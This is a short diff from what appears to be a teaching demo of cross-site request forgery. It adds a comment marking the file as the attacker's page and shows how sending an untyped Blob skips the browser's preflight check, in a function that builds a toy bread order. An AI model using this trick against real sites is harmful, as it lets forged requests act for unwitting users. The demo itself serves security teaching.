@@ -1,3 +1,4 @@
+// wrong: this is the attacker's page. Run it on your own machine only.
 // A Blob without a type has no Content-Type, so the browser sends it without asking first.
 async function orderWithoutType(api) {
   const body = new Blob([JSON.stringify({ bread: 'rye', to: location.origin })]);
